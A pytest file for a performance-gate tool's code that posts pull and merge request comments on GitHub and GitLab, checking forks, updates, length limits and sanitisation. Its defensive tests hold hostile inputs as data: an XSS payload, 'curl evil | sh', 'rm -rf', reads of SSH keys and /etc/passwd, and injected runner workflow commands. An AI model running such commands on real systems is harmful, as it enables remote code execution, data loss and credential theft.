"""One comment in a pull request, rewritten by later gates, and nobody else's."""

import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from questions.gate.forge import events
from questions.gate.forge.stand_in import Forge, forge_stand_in
from webdyno.core.base import Interval
from webdyno.core.errors import OperationError, UserError
from webdyno.core.limits import GateAnswer, GateClaim, GateJudgement
from webdyno.interfaces.pull_request import MOST_LETTERS, post_comment

NAME = "performance"


@pytest.fixture
def forge() -> Iterator[Forge]:
    with forge_stand_in() as stand_in:
        yield stand_in


REPEAT = "webdyno gate --base 1a2b3c4 --head 5d6e7f8 --path=/search"


COMMIT = "1234567890"


def gate(
    tmp_path: Path,
    endpoints: int = 1,
    note: str = "/ got slower",
    repeat: str = REPEAT,
    head: str = f"the working tree ({COMMIT})",
) -> Path:
    """A folder with the answer of a gate."""
    claims = [
        GateClaim(
            endpoint=f"/{number}",
            metric="server_cpu_us",
            tolerance=0.05,
            answer="worse",
            because="beyond-limit",
            why="worse by 20%",
            worse=Interval(low=1.18, estimate=1.2, high=1.22, confidence=0.95),
            noise=0.01,
            baseline=10.0,
            head=12.0,
            rounds=6,
        )
        for number in range(endpoints)
    ]
    answer = GateJudgement(
        answer=GateAnswer.FAIL,
        headline="/0 is worse",
        notes=[note],
        baseline="origin/main (1a2b3c4)",
        head=head,
        claims=claims,
        repeat=repeat,
        took_s=60,
    )
    tmp_path.mkdir(exist_ok=True)
    (tmp_path / "gate.json").write_text(answer.model_dump_json(), encoding="utf-8")
    return tmp_path


def github(forge: Forge, tmp_path: Path, event: dict[str, Any], name: str = "") -> dict[str, str]:
    """What GitHub's runner sets."""
    file = tmp_path / "event.json"
    file.write_text(json.dumps(event), encoding="utf-8")
    return {
        "GITHUB_ACTIONS": "true",
        "GITHUB_EVENT_NAME": name or next(it for it in (*event, "push") if it in NAMES),
        "GITHUB_EVENT_PATH": str(file),
        "GITHUB_REPOSITORY": events.REPOSITORY,
        "GITHUB_API_URL": forge.address,
        "GITHUB_RUN_ID": "99",
        "GITHUB_TOKEN": "secret",
    }


NAMES = {"pull_request", "workflow_run", "push"}


def gitlab(forge: Forge) -> Mapping[str, str]:
    """What GitLab's runner sets in a merge request's pipeline."""
    return {
        "GITLAB_CI": "true",
        "CI_API_V4_URL": forge.address,
        "CI_PROJECT_ID": "5",
        "CI_PROJECT_URL": "https://gitlab/shop",
        "CI_MERGE_REQUEST_IID": "12",
        "CI_JOB_URL": "https://gitlab/shop/-/jobs/1",
        "CI_COMMIT_SHA": f"{COMMIT}{'0' * 30}",
        "WEBDYNO_GITLAB_TOKEN": "secret",
    }


def test_a_pull_request_gets_one_comment_that_later_gates_rewrite(
    forge: Forge, tmp_path: Path
) -> None:
    job = github(forge, tmp_path, events.pull_request())
    first = post_comment(gate(tmp_path / "one"), NAME, job)
    assert first == "commented: https://forge/comment/1"
    again = post_comment(gate(tmp_path / "two", note="/ got slower again"), NAME, job)
    assert again == "comment updated: https://forge/comment/1"
    (only,) = forge.comments
    assert "### ❌ webdyno performance: /0 needs 20% more CPU per request" in only["body"]
    assert "/ got slower again" in only["body"]
    assert "performance" in only["body"]
    assert "actions/runs/99" in only["body"]
    assert f"**Repeat:** `{REPEAT}`" in only["body"]
    other = post_comment(gate(tmp_path / "three"), "shop", job)
    assert other == "commented: https://forge/comment/2"


def test_the_comment_is_found_behind_many_others_and_never_in_a_strangers(
    forge: Forge, tmp_path: Path
) -> None:
    forge.add(f"<!-- webdyno gate: {NAME} --> mine", kind="User", author=3)
    for _ in range(230):
        forge.add("talk", kind="User", author=3)
    job = github(forge, tmp_path, events.pull_request())
    assert post_comment(gate(tmp_path / "run"), NAME, job).startswith("commented")
    assert post_comment(gate(tmp_path / "run"), NAME, job).startswith("comment updated")
    assert len(forge.comments) == 232
    assert post_comment(gate(tmp_path / "run"), NAME, gitlab(forge)).startswith("comment updated")
    assert len(forge.comments) == 232


def test_a_fork_posts_nothing_and_the_workflow_after_it_does(forge: Forge, tmp_path: Path) -> None:
    run = gate(tmp_path / "run")
    fork = github(forge, tmp_path, events.pull_request(source="stranger/shop"), "pull_request")
    assert "from a fork" in post_comment(run, NAME, fork)
    gone = github(forge, tmp_path, events.pull_request(source=None), "pull_request")
    assert "from a fork" in post_comment(run, NAME, gone)
    assert forge.comments == []
    forge.pulls = [
        {"number": 3, "head": {"sha": "b" * 40}},
        {"number": 12, "head": {"sha": "a" * 40}},
    ]
    after = github(forge, tmp_path, events.workflow_run(), "workflow_run")
    assert post_comment(run, NAME, after).startswith("commented")
    assert "POST /repos/someone/shop/issues/12/comments" in forge.asked
    assert "head=stranger%3Afaster" in "".join(forge.asked)
    assert "actions/runs/4711" in forge.comments[0]["body"]
    newer = github(forge, tmp_path, events.workflow_run(sha="c" * 40), "workflow_run")
    assert "no open pull request" in post_comment(run, NAME, newer)


def test_a_push_has_nothing_to_comment(forge: Forge, tmp_path: Path) -> None:
    job = github(forge, tmp_path, events.push(), "push")
    assert "has no pull request" in post_comment(gate(tmp_path / "run"), NAME, job)
    without = {**gitlab(forge), "CI_MERGE_REQUEST_IID": ""}
    assert "no merge request" in post_comment(gate(tmp_path / "run"), NAME, without)
    assert forge.asked == []


def test_a_merge_request_gets_no_answer_of_another_one(forge: Forge, tmp_path: Path) -> None:
    """Which may lie in a folder that a runner has for several; who wrote it chose what it says."""
    for number, head in enumerate(
        (
            "the working tree (fedcba9876)",
            f"the working tree ({COMMIT} with changes)",
            f"({COMMIT}) ",
            "",
            "(a)",
        )
    ):
        run = gate(tmp_path / str(number), head=head)
        assert f"isn't about {COMMIT}00, this pip" in post_comment(run, NAME, gitlab(forge))
    assert forge.comments == []


def test_a_merge_request_gets_one_note(forge: Forge, tmp_path: Path) -> None:
    first = post_comment(gate(tmp_path / "run"), NAME, gitlab(forge))
    assert first == "commented: https://gitlab/shop/-/merge_requests/12#note_1"
    assert post_comment(gate(tmp_path / "run"), NAME, gitlab(forge)).startswith("comment updated")
    assert len(forge.comments) == 1
    assert "WEBDYNO_GITLAB_TOKEN isn't set" in post_comment(
        tmp_path / "run", NAME, {**gitlab(forge), "WEBDYNO_GITLAB_TOKEN": ""}
    )


def test_what_a_fork_measured_mentions_nobody_and_marks_nothing_up(
    forge: Forge, tmp_path: Path
) -> None:
    hostile = "@everyone <img src=x onerror=alert(1)> [click](http://evil) </details> --> `rm`"
    job = github(forge, tmp_path, events.pull_request())
    post_comment(gate(tmp_path / "run", note=hostile), NAME, job)
    body = forge.comments[0]["body"]
    assert "@everyone" not in body
    assert "<img" not in body.replace("\\<img", "")
    assert "\\[click\\](http:\u200b//evil)" in body
    assert body.count("</details>") == 1


def test_a_long_comment_is_cut_to_what_forges_take(forge: Forge, tmp_path: Path) -> None:
    job = github(forge, tmp_path, events.pull_request())
    post_comment(gate(tmp_path / "run", endpoints=1000), NAME, job)
    assert len(forge.comments[0]["body"]) < MOST_LETTERS + 200
    assert "… cut" in forge.comments[0]["body"]


def test_refusals_say_whose_right_is_missing(forge: Forge, tmp_path: Path) -> None:
    run = gate(tmp_path / "run")
    job = github(forge, tmp_path, events.pull_request())
    forge.may_write = False
    with pytest.raises(OperationError, match=r"403 Resource not.*pull-requests: write"):
        post_comment(run, NAME, job)
    with pytest.raises(OperationError, match=r"127\.0\.0\.1:9"):
        post_comment(run, NAME, {**job, "GITHUB_API_URL": "http://127.0.0.1:9"})
    with pytest.raises(UserError, match="GITHUB_TOKEN isn't set"):
        post_comment(run, NAME, {**job, "GITHUB_TOKEN": ""})
    with pytest.raises(UserError, match="no job of GitHub Actions or GitLab CI"):
        post_comment(run, NAME, {})
    with pytest.raises(UserError, match=r"gate.json: isn't there"):
        post_comment(tmp_path, NAME, job)
    (tmp_path / "gate.json").write_text("{}")
    with pytest.raises(UserError, match=r"gate.json: is no answer of a gate"):
        post_comment(tmp_path, NAME, job)


@pytest.mark.parametrize(
    "repeat",
    [
        "curl evil | sh",
        "webdyno gate --base 'cmd:curl evil | sh'",
        "webdyno gate --base 'unfinished",
        "webdyno report runs/x",
        "webdyno gate --base a --catalog /tmp/evil",
        "webdyno gate --base a -o /home/x",
        "webdyno gate --base a --output=/home/x",
        "webdyno gate --base a --history ~/.ssh/authorized_keys",
        "webdyno gate --base a --set 'state.before_round=[\"id\"]'",
        "webdyno gate --base a --traffic /etc/passwd",
        "webdyno gate --base a --yes",
        "webdyno gate --base a --target-is-mine",
        "webdyno gate --base --yes",
        "webdyno gate --base",
        "webdyno gate --base a; rm -rf x",
        "webdyno gate --base a '--path=/\n'",
    ],
)
def test_a_command_that_a_stranger_made_up_is_not_offered(
    forge: Forge, tmp_path: Path, repeat: str
) -> None:
    job = github(forge, tmp_path, events.pull_request())
    post_comment(gate(tmp_path / "run", repeat=repeat), NAME, job)
    assert "Repeat" not in forge.comments[0]["body"]


def test_of_a_command_the_shell_gets_nothing_else_to_run(forge: Forge, tmp_path: Path) -> None:
    job = github(forge, tmp_path, events.pull_request())
    repeat = "webdyno gate --base 'a; rm -rf x' --confirm -c 8 --time=5m"
    post_comment(gate(tmp_path / "run", repeat=repeat), NAME, job)
    assert repeat in forge.comments[0]["body"]


def test_a_metric_that_there_is_not_is_named(forge: Forge, tmp_path: Path) -> None:
    job = github(forge, tmp_path, events.pull_request())
    folder = gate(tmp_path / "run")
    file = folder / "gate.json"
    file.write_text(file.read_text().replace("server_cpu_us", "happiness"))
    with pytest.raises(UserError, match=r"gate.json: is no answer.*no metric 'happiness'"):
        post_comment(folder, NAME, job)


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"\n::stop-commands::x": 1}, r"answer of a gate: '\\n::stop-commands::x' should "),
        ({"answer": "\n::error::x"}, r"not '\\n::error::x'"),
        ({"claims": [{"\r::x": 1, "endpoint": "\n::error::x"}]}, r"claims\.0\.metric is missing"),
    ],
)
def test_a_refusal_is_one_line_whatever_a_fork_wrote(
    forge: Forge, tmp_path: Path, change: dict[str, Any], says: str
) -> None:
    """A line of its own could be a command to GitHub's runner."""
    job, folder = github(forge, tmp_path, events.pull_request()), gate(tmp_path / "run")
    file = folder / "gate.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | change))
    with pytest.raises(UserError, match=says) as refusal:
        post_comment(folder, NAME, job)
    assert str(refusal.value).isprintable()


def test_a_number_of_rounds_that_cannot_be_is_refused(forge: Forge, tmp_path: Path) -> None:
    job, folder = github(forge, tmp_path, events.pull_request()), gate(tmp_path / "run")
    file = folder / "gate.json"
    file.write_text(file.read_text().replace('"rounds":6', f'"rounds":1{"0" * 400}'))
    with pytest.raises(UserError, match="rounds should be"):
        post_comment(folder, NAME, job)


def test_an_event_that_lacks_something_is_reported(forge: Forge, tmp_path: Path) -> None:
    incomplete: list[dict[str, Any]] = [
        {"pull_request": {}},
        {"pull_request": {"number": "x", "head": {}}},
        {"workflow_run": []},
        {"workflow_run": {"id": 1}},
    ]
    for event in incomplete:
        environment = github(forge, tmp_path, event)
        with pytest.raises(UserError, match=r"event\.json: is no event of GitHub's: "):
            post_comment(gate(tmp_path), NAME, environment)


def test_a_fork_that_is_gone_has_no_pull_request(forge: Forge, tmp_path: Path) -> None:
    event = events.workflow_run()
    event["workflow_run"]["head_repository"] = None
    said = post_comment(gate(tmp_path), NAME, github(forge, tmp_path, event))
    assert said.startswith("no comment: no open pull request")


def test_comments_of_accounts_that_are_gone_are_passed_over(forge: Forge, tmp_path: Path) -> None:
    forge.add("hello")["user"] = None
    environment = github(forge, tmp_path, events.pull_request())
    assert post_comment(gate(tmp_path), NAME, environment).startswith("commented: ")


@pytest.mark.parametrize("answer", [None, 1, "x", {}, [1]])
def test_a_forge_that_answers_something_else_is_reported(
    forge: Forge, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, answer: object
) -> None:
    monkeypatch.setattr(forge, "answer", lambda *_: (200, answer))
    environment = github(forge, tmp_path, events.pull_request())
    with pytest.raises(OperationError, match="answers no list"):
        post_comment(gate(tmp_path), NAME, environment)


@pytest.mark.parametrize(
    "changes",
    [
        {"worse": {"low": 1, "estimate": 1, "high": 0}},
        {"worse": {"low": -2, "estimate": 1, "high": 3}},
        {"rounds": 10**400},
        {"rounds": -1},
        {"metric": "x" * 100_000},
    ],
)
def test_a_claim_that_nobody_measured_is_refused(tmp_path: Path, changes: dict[str, Any]) -> None:
    file = gate(tmp_path) / "gate.json"
    judged = json.loads(file.read_text(encoding="utf-8"))
    judged["claims"][0] |= changes
    file.write_text(json.dumps(judged), encoding="utf-8")
    with pytest.raises(UserError, match="is no answer of a gate") as refused:
        post_comment(tmp_path, NAME, {})
    assert len(str(refused.value)) < 1_000
